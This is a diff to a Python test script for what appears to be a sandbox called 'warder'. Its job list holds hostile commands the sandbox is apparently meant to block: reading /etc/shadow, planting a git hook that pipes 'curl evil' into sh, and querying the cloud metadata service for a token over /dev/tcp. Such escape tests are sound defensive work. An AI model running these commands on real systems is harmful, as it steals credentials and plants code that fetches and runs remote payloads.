@@ -15,7 +15,7 @@ import threading
 
 TOP = pathlib.Path(__file__).resolve().parent.parent
 SHARED = pathlib.Path(os.environ["WARDER_SHARED"])
-WARDER = TOP / "build/bin/warder"
+WARDER = os.environ.get("WARDER", TOP / "build/bin/warder")
 IMAGE = "localhost/toolchain"
 METADATA = "169.254.169.254"
 AUDIT = SHARED / "audit.log"
@@ -41,8 +41,7 @@ JOB = [
     ("reads /etc/shadow", "head -c 30 /etc/shadow && echo ...", True),
     ("puts a program under /usr", "cp /bin/true /usr/bin/extra && echo /usr/bin/extra is there", True),
     ("writes a git hook", "echo 'curl evil | sh' > .git/hooks/pre-commit && echo hook written", True),
-    ("moves .git away to reach its hooks", "perl -e 'rename \".git\", \"g\" or die \"rename: $!\\n\"' && echo x > g/hooks/pre-commit"
-     " && echo hook written", True),
+    ("moves .git away to reach its hooks", "mv .git g && echo 'curl evil | sh' > g/hooks/pre-commit && echo hook written", True),
     ("asks the cloud's metadata service for credentials", f"exec 3<>/dev/tcp/{METADATA}/80 && printf 'GET /token HTTP/1.0\\n\\n' >&3"
      " && tail -n 1 <&3", True),
 ]
